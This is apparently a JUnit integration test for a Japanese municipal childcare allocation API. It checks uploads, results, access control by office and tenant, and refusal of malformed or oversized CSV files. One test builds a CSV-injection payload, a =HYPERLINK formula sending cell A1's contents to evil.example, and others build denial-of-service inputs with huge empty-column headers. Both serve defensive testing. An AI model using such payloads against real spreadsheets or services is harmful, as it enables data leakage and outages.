package jp.tetsuzuki.processes.childcare.runs;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;
import jp.tetsuzuki.processes.childcare.allocation.csv.CsvText;
import jp.tetsuzuki.processes.support.Http;
import jp.tetsuzuki.processes.support.PlatformTest;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * The stand-alone allocation API as a municipality uses it: the ChilmAI sample files in (applicants UTF-8 with BOM,
 * facilities in windows-31j), the hand-worked result out, read back by its office, hidden from everyone else, and
 * the result file in both encodings; refused files name part, line and column and store nothing.
 */
@PlatformTest
class AllocationRunHttpTest {

  static final String FACILITIES = "保育所ID,保育所名,0歳募集人数,1歳募集人数,2歳募集人数,3歳募集人数,4歳募集人数,5歳募集人数\r\n"
      + "10,さくら保育園,0,0,0,1,0,0\r\n20,ひまわり保育園,0,0,0,1,0,0\r\n30,つばき保育園,0,0,0,3,0,0\r\n";
  static final String APPLICANTS = "申請者番号,世帯番号,年齢,点数1,点数2,希望保育園ID_1,希望保育園ID_2,在籍保育所ID,きょうだいパターン\r\n"
      + "101,1001,3,100,100,10,20,,\r\n102,1002,3,80,80,10,30,20,\r\n103,1003,3,70,70,20,30,,\r\n"
      + "104,1004,3,60,60,20,30,,1\r\n105,1004,3,60,60,20,30,,1\r\n";
  private static final String RUNS = "/api/v1/childcare/allocation-runs";

  @LocalServerPort int port;
  @Autowired JdbcTemplate jdbc;
  @Autowired AllocationRunPool pool;

  @Test
  void aRunFromTheSampleFilesIsAnsweredStoredAndReadBackByItsOfficeOnly() {
    Http staff = Http.as("staff-ku", port);
    Map<String, byte[]> parts = new LinkedHashMap<>();
    parts.put("applicants", utf8WithBom(APPLICANTS));
    parts.put("facilities", FACILITIES.getBytes(CsvText.WINDOWS_31J));
    Http.Response created = post(staff, RUNS, parts);
    assertThat(created.status()).as(created.body()).isEqualTo(201);
    JsonNode run = created.json();
    String id = run.get("id").asText();
    assertThat(created.header("Location")).isEqualTo(RUNS + "/" + id);
    assertThat(run.get("tenantId").asText()).isEqualTo("demo-ku");
    Map<String, String> where = new LinkedHashMap<>();
    run.get("results").forEach(r -> where.put(r.get("applicantId").asText(),
        r.get("facilityId").isNull() ? null : r.get("facilityId").asText()));
    // worked out by hand in AllocationEngineTest.theChilmaiSampleAsWorkedOutByHand
    assertThat(where).containsExactly(Map.entry("101", "10"), Map.entry("102", "30"), Map.entry("103", "20"),
        Map.entry("104", "30"), Map.entry("105", "30"));
    JsonNode why = run.get("results").get(1).get("explanation").get(0);
    assertThat(why.get("reason").asText()).isEqualTo("BELOW_CUTOFF");
    assertThat(why.get("places").asInt()).isEqualTo(1);
    assertThat(why.get("cutoffScore").asDouble()).isEqualTo(100.0);
    assertThat(why.get("messageJa").asText()).contains("さくら保育園");

    Http.Response again = staff.get(RUNS + "/" + id);
    assertThat(again.status()).isEqualTo(200);
    assertThat(again.json()).isEqualTo(run);
    assertThat(Http.as("supervisor-ku", port).get(RUNS + "/" + id).status()).isEqualTo(200);
    // review F9: staff of the same municipality outside 保育課 (the inspector) do not see children's data
    assertThat(Http.as("kensa-ku", port).get(RUNS + "/" + id).status()).isEqualTo(404);
    assertThat(Http.as("kensa-ku", port).get(RUNS + "/" + id + "/result.csv").status()).isEqualTo(404);
    // another municipality's staff, and an outside system of the same municipality that did not make it: 404
    assertThat(Http.as("staff-shi", port).get(RUNS + "/" + id).status()).isEqualTo(404);
    assertThat(Http.as("api-client", port).get(RUNS + "/" + id).status()).isEqualTo(404);
    assertThat(Http.as("staff-shi", port).get(RUNS + "/" + id + "/result.csv").status()).isEqualTo(404);

    Http.Response csv = staff.get(RUNS + "/" + id + "/result.csv");
    assertThat(csv.status()).isEqualTo(200);
    assertThat(csv.header("Content-Type")).startsWith("text/csv").containsIgnoringCase("utf-8");
    String text = new String(csv.bytes(), StandardCharsets.UTF_8);
    assertThat(text).startsWith("\uFEFF申請者番号");
    assertThat(text).contains("入所選考結果保育所ID,入所選考結果保育所名\r\n")
        .contains("102,1002,3,80,80,10,30,20,,30,つばき保育園\r\n");
    Http.Response sjis = staff.get(RUNS + "/" + id + "/result.csv?charset=Shift_JIS");
    assertThat(new String(sjis.bytes(), CsvText.WINDOWS_31J)).isEqualTo(text.substring(1));
  }

  @Test
  void anOutsideSystemOfSeveralTenantsNamesOneAndSeesOnlyItsOwnRuns() {
    Http system = Http.as("api-client", port);
    Map<String, byte[]> parts = Map.of("applicants", APPLICANTS.getBytes(StandardCharsets.UTF_8),
        "facilities", FACILITIES.getBytes(StandardCharsets.UTF_8));
    Http.Response ambiguous = post(system, RUNS, parts);
    assertThat(ambiguous.status()).isEqualTo(400);
    assertThat(ambiguous.json().get("field").asText()).isEqualTo("tenantId");
    assertThat(post(system, RUNS + "?tenantId=demo-other", parts).status()).isEqualTo(404);

    Http.Response created = post(system, RUNS + "?tenantId=demo-shi", parts);
    assertThat(created.status()).as(created.body()).isEqualTo(201);
    String id = created.json().get("id").asText();
    assertThat(system.get(RUNS + "/" + id).status()).isEqualTo(200);
    assertThat(Http.as("staff-shi", port).get(RUNS + "/" + id).status()).isEqualTo(200);
    assertThat(Http.as("staff-ku", port).get(RUNS + "/" + id).status()).isEqualTo(404);
  }

  @Test
  void aRefusedFileNamesPartLineAndColumnAndStoresNothing() {
    Http staff = Http.as("staff-ku", port);
    Integer before = jdbc.queryForObject("SELECT COUNT(*) FROM tz_allocation_run", Integer.class);
    Map<String, byte[]> parts = new LinkedHashMap<>();
    parts.put("applicants", (APPLICANTS + "106,1006,7,1,1,10,99,,\r\n").getBytes(StandardCharsets.UTF_8));
    parts.put("facilities", FACILITIES.getBytes(StandardCharsets.UTF_8));
    Http.Response refused = post(staff, RUNS, parts);
    assertThat(refused.status()).isEqualTo(400);
    JsonNode problem = refused.json();
    assertThat(problem.get("field").asText()).isEqualTo("applicants");
    assertThat(problem.get("messageJa").asText()).contains("7行目");
    JsonNode errors = problem.get("errors");
    assertThat(errors).hasSize(2);
    assertThat(errors.get(0).get("code").asText()).isEqualTo("BAD_AGE");
    assertThat(errors.get(0).get("line").asInt()).isEqualTo(7);
    assertThat(errors.get(0).get("column").asText()).isEqualTo("年齢");
    assertThat(errors.get(1).get("code").asText()).isEqualTo("UNKNOWN_FACILITY");
    assertThat(errors.get(1).get("column").asText()).isEqualTo("希望保育園ID_2");

    Http.Response missing = post(staff, RUNS, Map.of("applicants", APPLICANTS.getBytes(StandardCharsets.UTF_8)));
    assertThat(missing.status()).isEqualTo(400);
    assertThat(missing.json().get("field").asText()).isEqualTo("facilities");

    byte[] undecodable = {(byte) 0x81, 0x7f};
    Http.Response garbage = post(staff, RUNS, Map.of("applicants", undecodable,
        "facilities", FACILITIES.getBytes(StandardCharsets.UTF_8)));
    assertThat(garbage.status()).isEqualTo(400);
    assertThat(garbage.json().get("errors").get(0).get("code").asText()).isEqualTo("UNDECODABLE");

    assertThat(jdbc.queryForObject("SELECT COUNT(*) FROM tz_allocation_run", Integer.class)).isEqualTo(before);
    assertThat(staff.get(RUNS + "/" + UUID.randomUUID()).status()).isEqualTo(404);
  }

  /**
   * Review F7 (output amplification): 99 preferences per child, or applicants × preferences beyond the bound, are
   * refused before the engine runs, with the column or the count named; nothing is stored (domain
   * childcare.md "Scale": a large ward has several thousand April applicants, a handful of preferences each).
   */
  @Test
  void tooManyPreferencesOrPreferenceCellsAreRefusedBeforeAnythingIsComputed() {
    Http staff = Http.as("staff-ku", port);
    Integer before = jdbc.queryForObject("SELECT COUNT(*) FROM tz_allocation_run", Integer.class);
    int k = 99;
    StringBuilder facilities = new StringBuilder(
        "保育所ID,保育所名,0歳募集人数,1歳募集人数,2歳募集人数,3歳募集人数,4歳募集人数,5歳募集人数\r\n");
    for (int i = 1; i <= k; i++) {
      facilities.append(i).append(",施設").append(i).append(",0,0,0,").append(i == k ? 1 : 0).append(",0,0\r\n");
    }
    StringBuilder wide = new StringBuilder("申請者番号,世帯番号,年齢,点数1");
    for (int i = 1; i <= k; i++) {
      wide.append(",希望保育園ID_").append(i);
    }
    wide.append("\r\n");
    for (int a = 0; a < 50; a++) {
      wide.append(100000 + a).append(',').append(500000 + a).append(",3,10");
      for (int i = 1; i <= k; i++) {
        wide.append(',').append(i);
      }
      wide.append("\r\n");
    }
    Http.Response refused = post(staff, RUNS, Map.of("applicants", wide.toString().getBytes(StandardCharsets.UTF_8),
        "facilities", facilities.toString().getBytes(StandardCharsets.UTF_8)));
    assertThat(refused.status()).as(refused.body()).isEqualTo(400);
    assertThat(refused.json().get("errors").get(0).get("code").asText()).isEqualTo("TOO_MANY_PREFERENCES");
    assertThat(refused.json().get("errors").get(0).get("column").asText()).isEqualTo("希望保育園ID_21");
    assertThat(refused.json().get("messageJa").asText()).contains("第20希望まで");

    // 20 preferences each (allowed), but 3,001 children: 60,020 preferences in all, beyond the 60,000 of one run
    StringBuilder many = new StringBuilder("申請者番号,世帯番号,年齢,点数1");
    for (int i = 1; i <= 20; i++) {
      many.append(",希望保育園ID_").append(i);
    }
    many.append("\r\n");
    for (int a = 0; a < 3001; a++) {
      many.append(100000 + a).append(',').append(500000 + a).append(",3,10");
      for (int i = 1; i <= 20; i++) {
        many.append(',').append(i);
      }
      many.append("\r\n");
    }
    Http.Response tooLarge = post(staff, RUNS, Map.of("applicants", many.toString().getBytes(StandardCharsets.UTF_8),
        "facilities", facilities.toString().getBytes(StandardCharsets.UTF_8)));
    assertThat(tooLarge.status()).as(tooLarge.body()).isEqualTo(413);
    assertThat(tooLarge.json().get("field").asText()).isEqualTo("applicants");
    assertThat(tooLarge.json().get("detail").asText()).contains("60020 preferences");
    assertThat(tooLarge.json().get("messageJa").asText()).contains("60000");
    assertThat(jdbc.queryForObject("SELECT COUNT(*) FROM tz_allocation_run", Integer.class)).isEqualTo(before);
  }

  /**
   * Review F8 (CSV injection): a facility name that a spreadsheet would run as a formula comes back in result.csv
   * with a leading {@code '} (OWASP), in both encodings; the JSON answer keeps the name as it was sent.
   */
  @Test
  void aFormulaInANameIsWrittenInertToResultCsv() {
    Http staff = Http.as("staff-ku", port);
    String evil = "=HYPERLINK(\"http://evil.example/?\"&A1;\"x\")施設99";
    String facilities = FACILITIES.replace("30,つばき保育園,", "30,\"" + evil.replace("\"", "\"\"") + "\",");
    Http.Response created = post(staff, RUNS, Map.of("applicants", (APPLICANTS.replace("101,1001,", "＝1+1,1001,"))
        .getBytes(StandardCharsets.UTF_8), "facilities", facilities.getBytes(StandardCharsets.UTF_8)));
    assertThat(created.status()).as(created.body()).isEqualTo(201);
    String id = created.json().get("id").asText();
    String csv = new String(staff.get(RUNS + "/" + id + "/result.csv").bytes(), StandardCharsets.UTF_8);
    assertThat(csv).contains(",30,\"'" + evil.replace("\"", "\"\"") + "\"\r\n")
        .contains("\r\n'＝1+1,1001,").doesNotContain(",\"=HYPERLINK");
    String sjis = new String(staff.get(RUNS + "/" + id + "/result.csv?charset=windows-31j").bytes(),
        CsvText.WINDOWS_31J);
    assertThat(sjis).contains("\"'=HYPERLINK");
  }

  /**
   * Review C6, as the attack: a header of 100,000 commas over 300 short rows (105 KB) was answered 201 after 14 s
   * with a 30 MB result file stored; a header of 8,000,000 empty columns (8 MB) took 1 min 55 s. Both are now 400
   * TOO_MANY_COLUMNS naming line 1 and column 201, at once, and nothing is stored.
   */
  @Test
  void aHeaderOfHundredsOfThousandsOfEmptyColumnsIsRefusedAtOnce() {
    Http staff = Http.as("staff-ku", port);
    Integer before = jdbc.queryForObject("SELECT COUNT(*) FROM tz_allocation_run", Integer.class);
    StringBuilder amp = new StringBuilder("申請者番号,世帯番号,年齢,点数1,希望保育園ID_1" + ",".repeat(100_000) + "\n");
    for (int i = 0; i < 300; i++) {
      amp.append(i).append(',').append(i).append(",3,10,10\n");
    }
    Http.Response refused = post(staff, RUNS, Map.of("applicants", amp.toString().getBytes(StandardCharsets.UTF_8),
        "facilities", FACILITIES.getBytes(StandardCharsets.UTF_8)));
    assertThat(refused.status()).as(refused.body()).isEqualTo(400);
    assertThat(refused.json().get("field").asText()).isEqualTo("applicants");
    JsonNode error = refused.json().get("errors").get(0);
    assertThat(error.get("code").asText()).isEqualTo("TOO_MANY_COLUMNS");
    assertThat(error.get("line").asInt()).isEqualTo(1);
    assertThat(refused.json().get("messageJa").asText()).contains("1行目").contains("201列目");

    byte[] wide = ("申請者番号,世帯番号,年齢,点数1,希望保育園ID_1" + ",".repeat(8_000_000 - 5) + "\n1,1,3,10,10\n")
        .getBytes(StandardCharsets.UTF_8);
    assertThat(wide.length).isLessThan(8_388_608); // under the file bound: the columns are what is refused
    long started = System.nanoTime();
    Http.Response wideRefused = post(staff, RUNS, Map.of("applicants", wide,
        "facilities", FACILITIES.getBytes(StandardCharsets.UTF_8)));
    long millis = (System.nanoTime() - started) / 1_000_000;
    assertThat(wideRefused.status()).as(wideRefused.body()).isEqualTo(400);
    assertThat(wideRefused.json().get("errors").get(0).get("code").asText()).isEqualTo("TOO_MANY_COLUMNS");
    assertThat(millis).as("ms for the 8 MB header (1 min 55 s before)").isLessThan(15_000);
    assertThat(jdbc.queryForObject("SELECT COUNT(*) FROM tz_allocation_run", Integer.class)).isEqualTo(before);
  }

  /**
   * Review C5, as the attack: several large runs at once (staff, supervisors and outside systems may all POST) kept
   * every core busy. With the node's run threads and queue taken, a run is refused at once: 503, Retry-After, a
   * Japanese sentence, nothing stored; once they are free it runs.
   */
  @Test
  void aRunFindingEveryRunThreadAndTheQueueTakenIsRefusedWith503() throws Exception {
    Http staff = Http.as("staff-ku", port);
    Integer before = jdbc.queryForObject("SELECT COUNT(*) FROM tz_allocation_run", Integer.class);
    int slots = Math.max(1, pool.limits().concurrentRuns()) + Math.max(0, pool.limits().queuedRuns());
    CountDownLatch release = new CountDownLatch(1);
    CountDownLatch running = new CountDownLatch(Math.max(1, pool.limits().concurrentRuns()));
    ExecutorService callers = Executors.newFixedThreadPool(slots);
    try {
      for (int i = 0; i < slots; i++) {
        callers.submit(() -> pool.run(() -> {
          running.countDown();
          return release.await(60, TimeUnit.SECONDS);
        }));
      }
      assertThat(running.await(10, TimeUnit.SECONDS)).isTrue();
      long until = System.nanoTime() + TimeUnit.SECONDS.toNanos(10);
      while (pool.inUse() < slots && System.nanoTime() < until) {
        Thread.sleep(10);
      }
      assertThat(pool.inUse()).isEqualTo(slots);
      Http.Response busy = post(staff, RUNS, Map.of("applicants", APPLICANTS.getBytes(StandardCharsets.UTF_8),
          "facilities", FACILITIES.getBytes(StandardCharsets.UTF_8)));
      assertThat(busy.status()).as(busy.body()).isEqualTo(503);
      assertThat(busy.header("Retry-After")).isEqualTo("30");
      assertThat(busy.json().get("messageJa").asText()).contains("混み合っています").contains("30秒");
    } finally {
      release.countDown();
      callers.shutdown();
      assertThat(callers.awaitTermination(30, TimeUnit.SECONDS)).isTrue();
    }
    Integer afterBusy = jdbc.queryForObject("SELECT COUNT(*) FROM tz_allocation_run", Integer.class);
    assertThat(afterBusy).as("nothing stored by the refused run").isEqualTo(before);
    Http.Response created = post(staff, RUNS, Map.of("applicants", APPLICANTS.getBytes(StandardCharsets.UTF_8),
        "facilities", FACILITIES.getBytes(StandardCharsets.UTF_8)));
    assertThat(created.status()).as(created.body()).isEqualTo(201);
    assertThat(jdbc.queryForObject("SELECT COUNT(*) FROM tz_allocation_run", Integer.class))
        .isEqualTo(afterBusy + 1);
  }

  /** Review C5: a household of 11 children (the attack used 10 per 世帯番号, or thousands in one) names the row. */
  @Test
  void anEleventhChildOfOneHouseholdNamesItsRow() {
    StringBuilder applicants = new StringBuilder("申請者番号,世帯番号,年齢,点数1,希望保育園ID_1,きょうだいパターン\n");
    for (int i = 1; i <= 11; i++) {
      applicants.append(200 + i).append(",H7,3,10,10,5\n");
    }
    Http.Response refused = post(Http.as("staff-ku", port), RUNS, Map.of("applicants",
        applicants.toString().getBytes(StandardCharsets.UTF_8), "facilities", FACILITIES.getBytes(StandardCharsets.UTF_8)));
    assertThat(refused.status()).as(refused.body()).isEqualTo(400);
    JsonNode error = refused.json().get("errors").get(0);
    assertThat(error.get("code").asText()).isEqualTo("TOO_MANY_HOUSEHOLD_CHILDREN");
    assertThat(error.get("line").asInt()).isEqualTo(12);
    assertThat(error.get("column").asText()).isEqualTo("世帯番号");
    assertThat(refused.json().get("messageJa").asText()).contains("12行目").contains("10人まで");
  }

  @Test
  void theApiIsDocumentedWithItsParts() {
    JsonNode paths = Http.as("api-client", port).get("/v3/api-docs").json().get("paths");
    assertThat(paths.has(RUNS)).isTrue();
    assertThat(paths.has(RUNS + "/{id}")).isTrue();
    assertThat(paths.has(RUNS + "/{id}/result.csv")).isTrue();
    JsonNode multipart = paths.get(RUNS).get("post").get("requestBody").get("content").get("multipart/form-data");
    assertThat(multipart.get("schema").get("properties").has("applicants")).isTrue();
    assertThat(multipart.get("schema").get("properties").has("facilities")).isTrue();
  }

  private static byte[] utf8WithBom(String text) {
    byte[] body = text.getBytes(StandardCharsets.UTF_8);
    byte[] out = new byte[body.length + 3];
    out[0] = (byte) 0xef;
    out[1] = (byte) 0xbb;
    out[2] = (byte) 0xbf;
    System.arraycopy(body, 0, out, 3, body.length);
    return out;
  }

  private static Http.Response post(Http as, String path, Map<String, byte[]> parts) {
    String boundary = "tz-" + UUID.randomUUID();
    ByteArrayOutputStream body = new ByteArrayOutputStream();
    for (Map.Entry<String, byte[]> part : parts.entrySet()) {
      body.writeBytes(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"" + part.getKey()
          + "\"; filename=\"" + part.getKey() + ".csv\"\r\nContent-Type: text/csv\r\n\r\n")
          .getBytes(StandardCharsets.UTF_8));
      body.writeBytes(part.getValue());
      body.writeBytes("\r\n".getBytes(StandardCharsets.UTF_8));
    }
    body.writeBytes(("--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
    return as.post(path, "multipart/form-data; boundary=" + boundary, body.toByteArray());
  }
}
